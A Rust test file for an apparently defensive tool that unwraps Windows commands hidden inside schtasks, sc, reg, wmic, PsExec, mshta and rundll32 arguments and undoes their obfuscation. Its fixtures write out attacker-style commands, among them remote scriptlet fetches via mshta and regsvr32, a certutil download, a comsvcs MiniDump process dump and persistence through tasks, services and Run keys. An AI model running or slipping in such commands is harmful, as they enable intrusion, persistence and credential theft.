//! Command lines inside the arguments of other programs: which are unwrapped, and which stay.
//!
//! The inner lines follow from the programs' own rules of quoting; what they decode to from the
//! rules of `cmd.exe`, `VBScript` and `JavaScript`, each named beside its row.

use spawnscope::decode::{Command, decode};

use super::{WHOAMI, run, texts};

/// A line and the layers it has.
type Row = (&'static str, &'static [(&'static str, &'static str)]);

fn check(rows: &[Row]) {
    let mut wrong = Vec::new();
    for (line, expected) in rows {
        let decoding = run(line);
        let layers: Vec<(&str, &str)> = decoding
            .layers
            .iter()
            .map(|layer| (layer.trick.as_str(), layer.text.as_str()))
            .collect();
        if layers != *expected || !decoding.failed.is_empty() {
            wrong.push(format!("{line}\n  {expected:?}\n  {layers:?} {:?}", decoding.failed));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

const CARETS: &str = "Carets of cmd.exe";

/// The argument loses its quotes by the C runtime's rules (`\"` is a quote), then `cmd.exe` reads.
#[test]
fn lines_for_cmd_are_unwrapped() {
    let rows: &[Row] = &[
        (
            "schtasks /create /tn x /tr \"cmd /c w^hoami\" /sc minute",
            &[("Scheduled task action", "cmd /c w^hoami"), (CARETS, "cmd /c whoami")],
        ),
        (
            "SCHTASKS.EXE /Create /SC DAILY /TN x /TR \"cmd /c \\\"n^et user\\\"\"",
            &[("Scheduled task action", "cmd /c \"n^et user\""), (CARETS, "cmd /c \"net user\"")],
        ),
        (
            "sc create x binPath= \"%COMSPEC% /c p^ing 192.0.2.1\" start= auto",
            &[
                ("Service path", "%COMSPEC% /c p^ing 192.0.2.1"),
                (CARETS, "%COMSPEC% /c ping 192.0.2.1"),
            ],
        ),
        (
            "sc.exe config x binpath=\"cmd /c w^hoami\"",
            &[("Service path", "cmd /c w^hoami"), (CARETS, "cmd /c whoami")],
        ),
        (
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d \"cmd /c w^hoami\" /f",
            &[("Registry value data", "cmd /c w^hoami"), (CARETS, "cmd /c whoami")],
        ),
        (
            "wmic /node:192.0.2.7 process call create \"cmd /c w^hoami\"",
            &[("WMI process creation", "cmd /c w^hoami"), (CARETS, "cmd /c whoami")],
        ),
        (
            "forfiles /p C:\\Windows /m notepad.exe /c \"cmd /c w^hoami\"",
            &[("forfiles command", "cmd /c w^hoami"), (CARETS, "cmd /c whoami")],
        ),
        // forfiles: 0x70 is p, 0x22 a quote.
        (
            "forfiles /m notepad.exe /c \"0x70owershell -c 0x22dir0x22\"",
            &[("forfiles command", "powershell -c \"dir\"")],
        ),
        (
            "pcalua.exe -a cmd -c /c w^hoami",
            &[("pcalua program", "cmd /c w^hoami"), (CARETS, "cmd /c whoami")],
        ),
        (
            "conhost.exe --headless cmd /c w^hoami",
            &[("conhost command", "cmd /c w^hoami"), (CARETS, "cmd /c whoami")],
        ),
        (
            "PsExec64.exe \\\\192.0.2.7 -u a -p b -s -i 1 cmd /c w^hoami",
            &[("PsExec command", "cmd /c w^hoami"), (CARETS, "cmd /c whoami")],
        ),
        (
            "winrs -r:192.0.2.7 cmd /c w^hoami",
            &[("WinRS command", "cmd /c w^hoami"), (CARETS, "cmd /c whoami")],
        ),
    ];
    check(rows);
    // Beside other commands the line inside is replaced in its place.
    let rows: &[Row] = &[(
        "cmd /c schtasks /create /tn x /tr \"cmd /c w^hoami\" & schtasks /run /tn x",
        &[(
            "Scheduled task action",
            "cmd /c schtasks /create /tn x /tr \"cmd /c whoami\" & schtasks /run /tn x",
        )],
    )];
    check(rows);
}

#[test]
fn lines_inside_each_other_and_inside_powershell() {
    let rows: &[Row] = &[
        (
            "rundll32.exe shell32.dll,ShellExec_RunDLL cmd /c w^hoami",
            &[("rundll32 command", "cmd /c w^hoami"), (CARETS, "cmd /c whoami")],
        ),
        // In PowerShell text the line of cmd.exe is undone in its place.
        ("powershell -c cmd /c w^hoami; dir", &[(CARETS, "powershell -c cmd /c whoami; dir")]),
        (
            "powershell -nop -c \"gci; cmd.exe /c 'set x=whoami&& call %x%'\"",
            &[(
                "Variables set on the line of cmd.exe",
                "powershell -nop -c \"gci; cmd.exe /c 'whoami'\"",
            )],
        ),
        // One carrier in the other; the outer cmd.exe has read its own carets before.
        (
            "cmd /c \"wmic process call create \"cmd /v:on /c set x=whoami&!x!\"\"",
            &[
                ("WMI process creation", "cmd /v:on /c set x=whoami&!x!"),
                ("Variables set on the line of cmd.exe", "cmd /v:on /c whoami"),
            ],
        ),
        (
            "schtasks /create /tn x /tr \"forfiles /c \\\"0x77hoami\\\"\"",
            &[
                ("Scheduled task action", "forfiles /c \"0x77hoami\""),
                ("forfiles command", "whoami"),
            ],
        ),
    ];
    check(rows);
}

/// Strings joined with `&` and `+`, characters by number, reversed and replaced text.
#[test]
fn scripts_are_put_together() {
    let rows: &[Row] = &[
        (
            "mshta vbscript:CreateObject(\"WScript.Shell\").Run(\"who\"&\"ami\",0)(window.close)",
            &[("VBScript of mshta", "whoami")],
        ),
        // Chr(99)=c Chr(109)=m Chr(&H64)=d.
        (
            "mshta.exe vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run Chr(99) & Chr(109) & Chr(&H64) & \"\" /c dir\"\":close\")",
            &[("VBScript of mshta", "cmd /c dir")],
        ),
        (
            "mshta vbscript:a=\"imaohw\":CreateObject(\"WScript.Shell\").Exec(StrReverse(a))",
            &[("VBScript of mshta", "whoami")],
        ),
        (
            "mshta vbscript:CreateObject(\"WScript.Shell\").Run(Replace(\"whXami\",\"X\",\"o\"))",
            &[("VBScript of mshta", "whoami")],
        ),
        (
            "mshta vbscript:CreateObject(\"Shell.Application\").ShellExecute \"c\"&\"md\",\"/c dir\"",
            &[("VBScript of mshta", "cmd /c dir")],
        ),
        // 119,104,111 = who; %61%6d%69 = ami; \x77 = w.
        (
            "mshta javascript:a=new ActiveXObject('WScript.Shell');a.Run(String.fromCharCode(119,104,111)+unescape('%61%6d%69'),0);close()",
            &[("JavaScript of mshta", "whoami")],
        ),
        (
            "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();h=new%20ActiveXObject(\"WScript.Shell\").run(\"\\x77hoami\")",
            &[("JavaScript of rundll32", "whoami")],
        ),
        (
            "mshta javascript:x='imaohw'.split('').reverse().join('');new ActiveXObject('WScript.Shell').Run(x)",
            &[("JavaScript of mshta", "whoami")],
        ),
        // What it runs is for cmd.exe again.
        (
            "mshta vbscript:CreateObject(\"WScript.Shell\").Run(\"cmd /c w^ho\"&\"ami\")",
            &[("VBScript of mshta", "cmd /c w^hoami"), ("Carets of cmd.exe", "cmd /c whoami")],
        ),
        (
            "mshta vbscript:CreateObject(\"WScript.Shell\").Run(\"cmd /c w^hoami\")",
            &[("VBScript of mshta", "cmd /c w^hoami"), ("Carets of cmd.exe", "cmd /c whoami")],
        ),
        // Nothing is run that can be followed: the script with its strings whole.
        (
            "mshta javascript:a=GetObject('scr'+'ipt:http://192.0.2.1/a.sct').Go();close()",
            &[(
                "JavaScript of mshta",
                "a=GetObject(\"script:http://192.0.2.1/a.sct\").Go();close()",
            )],
        ),
    ];
    check(rows);
    let payload = format!(
        "mshta vbscript:CreateObject(\"WScript.Shell\").Run(\"power\"&\"shell -e {WHOAMI}\")"
    );
    let script = format!("powershell -e {WHOAMI}");
    assert_eq!(texts(&run(&payload)), [script.as_str(), "whoami /all"]);
}

#[test]
fn plain_carriers_stay_as_they_are() {
    let lines = [
        "schtasks /create /tn x /tr notepad.exe /sc daily",
        "schtasks /create /tn x /tr \"\\\"C:\\Program Files\\a\\b.exe\\\" -x\" /sc daily",
        "schtasks /create /tn x /tr \"cmd /c C:\\a.bat\"",
        "schtasks /query /fo list",
        "sc query",
        "sc create x binPath= \"C:\\a\\b.exe -k netsvcs\"",
        "reg add HKLM\\Software\\x /v y /t REG_DWORD /d 1 /f",
        "reg query HKLM\\Software\\x",
        "wmic process call create notepad.exe",
        "wmic process get name",
        "forfiles /p C:\\logs /s /m *.log /d -30 /c \"cmd /c del @path\"",
        "forfiles /c \"cmd /c echo 0x22@path0x22\"",
        "conhost.exe 0xffffffff -ForceV1",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0x4",
        "psexec \\\\a cmd",
        "winrs -r:a ipconfig",
        "mshta.exe C:\\a\\b.hta",
        "mshta http://192.0.2.1/a.hta",
        "mshta vbscript:CreateObject(\"WScript.Shell\").Run(\"notepad.exe\")(window.close)",
        "mshta vbscript:close",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\a.dmp full",
        "rundll32 shell32.dll,Control_RunDLL",
        "regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll",
        "certutil -urlcache -f http://192.0.2.1/a a",
        "powershell -c cmd /c dir; $x -match '^abc'",
        "powershell -c cmd /c ver | where { $_ -match '^abc' }",
        "powershell -c sc a.txt '^x'",
        "C:\\reg\\sc\\wmic.exe",
        "reg",
    ];
    for line in lines {
        let decoding = run(line);
        assert_eq!(decoding.layers, [], "{line}");
        assert_eq!(decoding.failed, [], "{line}");
    }
}

#[test]
fn what_a_carrier_hides_beyond_reach_is_told() {
    let line = "schtasks /create /tn x /tr \"cmd /c %USERNAME:~0,1%md\"";
    let decoding = run(line);
    assert_eq!(decoding.layers, []);
    assert_eq!(decoding.failed.len(), 1, "{:?}", decoding.failed);
    assert_eq!(decoding.failed[0].trick, "Scheduled task action");
    assert!(decoding.failed[0].reason.contains("USERNAME"));
}

/// Bounded work on lines that are made to be slow.
#[test]
fn hostile_carriers_end_fast() {
    let seeds = [
        "mshta vbscript:\"\"&",
        "mshta javascript:\"\\\"",
        "mshta javascript:'a'.replace(/",
        "mshta vbscript:chr(",
        "mshta vbscript:a=a&a:",
        "mshta vbscript:.run.run.exec ",
        "mshta vbscript:Execute(\"",
        "mshta vbscript:((((",
        "schtasks /tr \"cmd /c ^a\" & ",
        "schtasks /tr ",
        "wmic call create \"",
        "sc reg wmic ",
        "forfiles /c 0x70",
        "forfiles /c \"forfiles /c ",
    ];
    for seed in seeds {
        for line in
            [seed.repeat((1 << 16) / seed.len()), format!("{seed}{}", "x\"&".repeat(1 << 14))]
        {
            let start = std::time::Instant::now();
            let _decoding = decode(&Command { text: &line, ..Command::default() });
            let taken = start.elapsed().as_secs_f64();
            assert!(taken < 5.0, "{taken} s for {seed}");
        }
    }
}
